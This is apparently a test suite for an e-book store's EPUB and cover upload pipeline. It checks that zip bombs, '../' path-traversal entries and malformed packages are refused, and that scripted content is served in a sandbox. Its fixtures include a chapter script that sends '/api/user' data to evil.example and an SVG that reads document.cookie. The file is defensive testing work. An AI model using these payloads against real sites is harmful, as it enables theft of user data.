import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { strToU8, zipSync, type Zippable } from 'fflate';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deskBookResponse } from '@nomsan/contracts/catalog-desk';
import { mn } from '@nomsan/contracts/messages';
import { fixturesDir } from '@nomsan/demo/fixtures-dir';
import { createAccountsApp, registerByPhone, asMember, type AccountsTestApp } from '../../test/accounts';
import { keptStaff, uploadAs } from '../../test/staff';

const validEpub = readFileSync(join(fixturesDir(), 'epub', 'book-1.epub'));

/** an EPUB of these entries, `mimetype` first and stored, as the OCF asks */
function epubOf(entries: Zippable): Buffer {
  return Buffer.from(zipSync({ mimetype: [strToU8('application/epub+zip'), { level: 0 }], ...entries }, { level: 6 }));
}
const container = strToU8(
  '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="OEBPS/book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
);
const opf = (spine: string) =>
  strToU8(`<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id">
  <metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">x</dc:identifier><dc:title>Аюултай ном</dc:title><dc:language>mn</dc:language></metadata>
  <manifest><item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
    <item id="c1" href="c1.xhtml" media-type="application/xhtml+xml"/><item id="img" href="pic.svg" media-type="image/svg+xml"/></manifest>
  <spine>${spine}</spine></package>`);
const nav = strToU8(
  '<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><body><nav epub:type="toc"><ol><li><a href="c1.xhtml">Нэг</a></li></ol></nav></body></html>',
);
const hostileChapter = strToU8(
  `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>fetch('/api/user').then(r=>r.text()).then(t=>fetch('https://evil.example/'+t))</script></head><body onload="alert(1)"><p>${'Үг '.repeat(200)}</p><img src="pic.svg"/></body></html>`,
);
const hostileSvg = strToU8('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>');

/**
 * A title's files from the back office: an EPUB sent through the resumable upload endpoint is
 * checked before it is taken (a zip bomb, `../` entries, a broken container or an empty spine
 * are refused, each problem named in Mongolian), kept in the private e-book folder and read by
 * the reader with the sample the editor chose; script inside is taken but never runs in our
 * origin; a cover is cut to the page's sizes.
 */
describe("a title's files", () => {
  let t: AccountsTestApp;
  beforeAll(async () => {
    t = await createAccountsApp();
  });
  afterAll(() => t.close());

  const editor = () => keptStaff(t.app, ['editor']);
  const upload = async (bytes: Buffer, kind: string, filename: string) =>
    uploadAs(t.app, await editor(), bytes, kind, filename);
  const post = async (url: string, payload: object) =>
    t.app.inject({ method: 'POST', url, headers: (await editor()).headers, payload });
  async function draft(title: string) {
    return deskBookResponse.parse((await post('/api/staff/catalog/books', { title })).json()).data;
  }

  it('takes a checked EPUB, lets the title be published and sold, and shows visitors the chapters chosen', async () => {
    const book = await draft('Шинэ цахим ном');
    const attached = await post(`/api/staff/catalog/books/${book.id}/ebook`, {
      upload_id: await upload(validEpub, 'epub', 'book.epub'),
      sample_chapters: 2,
    });
    expect(attached.statusCode, attached.body).toBe(200);
    expect(deskBookResponse.parse(attached.json()).data).toMatchObject({
      has_ebook: true,
      ebook: { sample_chapters: 2, pages: expect.any(Number) },
    });
    // an upload is taken once
    expect((await post(`/api/staff/catalog/books/${book.id}/status`, { status: 'published' })).statusCode).toBe(200);
    const manifest = (await t.app.inject(`/v5/drm/book/${book.id}/playlist`)).json();
    const readable = manifest.data.spine.filter((item: { readable: boolean }) => item.readable);
    expect(readable).toHaveLength(2);
    // one chapter for visitors now
    const narrower = await post(`/api/staff/catalog/books/${book.id}/ebook`, { sample_chapters: 1 });
    expect(deskBookResponse.parse(narrower.json()).data.ebook?.sample_chapters).toBe(1);
    const after = (await t.app.inject(`/v5/drm/book/${book.id}/playlist`)).json();
    expect(after.data.spine.filter((item: { readable: boolean }) => item.readable)).toHaveLength(1);
  });

  it.each([
    [
      'a zip bomb',
      epubOf({ 'META-INF/container.xml': container, 'OEBPS/big.txt': new Uint8Array(20 * 1024 * 1024) }),
      /zip bomb/,
    ],
    [
      'an entry outside the archive',
      epubOf({ 'META-INF/container.xml': container, '../../etc/cron.d/x': strToU8('x') }),
      /архиваас гадагш/,
    ],
    ['a broken container', epubOf({ 'META-INF/container.xml': strToU8('<nope') }), /EPUB-ийн бүтэц буруу/],
    [
      'an empty spine',
      epubOf({ 'META-INF/container.xml': container, 'OEBPS/book.opf': opf(''), 'OEBPS/nav.xhtml': nav }),
      /EPUB-ийн бүтэц буруу/,
    ],
  ])('refuses %s, saying what is wrong', async (_name, bytes, problem) => {
    const book = await draft('Муу файл');
    const refused = await post(`/api/staff/catalog/books/${book.id}/ebook`, {
      upload_id: await upload(bytes, 'epub', 'bad.epub'),
    });
    expect(refused.statusCode).toBe(422);
    expect(refused.json().error.message).toMatch(problem);
    expect(
      deskBookResponse.parse(
        (await t.app.inject({ url: `/api/staff/catalog/books/${book.id}`, headers: (await editor()).headers })).json(),
      ).data.has_ebook,
    ).toBe(false);
  });

  it('takes an EPUB with script in its XHTML and SVG, whose resources are served where no script runs', async () => {
    const book = await draft('Скрипттэй ном');
    const bytes = epubOf({
      'META-INF/container.xml': container,
      'OEBPS/book.opf': opf('<itemref idref="c1"/>'),
      'OEBPS/nav.xhtml': nav,
      'OEBPS/c1.xhtml': hostileChapter,
      'OEBPS/pic.svg': hostileSvg,
    });
    const attached = await post(`/api/staff/catalog/books/${book.id}/ebook`, {
      upload_id: await upload(bytes, 'epub', 'x.epub'),
    });
    expect(attached.statusCode, attached.body).toBe(200);
    await post(`/api/staff/catalog/books/${book.id}/status`, { status: 'published' });
    const member = await registerByPhone(t.app);
    for (const path of ['OEBPS/c1.xhtml', 'OEBPS/pic.svg']) {
      const resource = await t.app.inject({
        url: `/v5/drm/book/${book.id}/resource?path=${encodeURIComponent(path)}`,
        headers: asMember(member),
      });
      expect(resource.statusCode, resource.body).toBe(200);
      // opened on its own, it is a sandbox without script: nothing it holds runs as our origin
      expect(resource.headers['content-security-policy']).toMatch(/^sandbox; default-src 'none'/);
      expect(resource.headers['content-security-policy']).not.toMatch(/script-src/);
    }
  });

  it('cuts a cover to the sizes pages show, and refuses what is not an image', async () => {
    const book = await draft('Нүүртэй ном');
    const png = await sharp({ create: { width: 600, height: 900, channels: 3, background: '#2255aa' } })
      .png()
      .toBuffer();
    const covered = await post(`/api/staff/catalog/books/${book.id}/cover`, {
      upload_id: await upload(png, 'cover', 'c.png'),
    });
    expect(covered.statusCode, covered.body).toBe(200);
    const view = deskBookResponse.parse(covered.json()).data;
    expect(view.cover.md).toMatch(/\/covers\/book-\d+-[0-9a-f]{12}-320\.webp$/);
    const storage = t.app.modules!.kernel.settings.media!.storage;
    const key = view.cover.md.replace(/^.*\/covers\//, 'covers/');
    const stored = await storage.read(key);
    expect((await sharp(stored!).metadata()).width).toBe(320);
    expect(view.cover.color).toMatch(/^#2[0-9a-f]5[0-9a-f]a[0-9a-f]$/);

    const tiny = await sharp({ create: { width: 100, height: 150, channels: 3, background: '#000' } })
      .png()
      .toBuffer();
    const refused = await post(`/api/staff/catalog/books/${book.id}/cover`, {
      upload_id: await upload(tiny, 'cover', 't.png'),
    });
    expect(refused.json().error.message).toBe(mn.ebookIngest.coverTooSmall);
  });
});
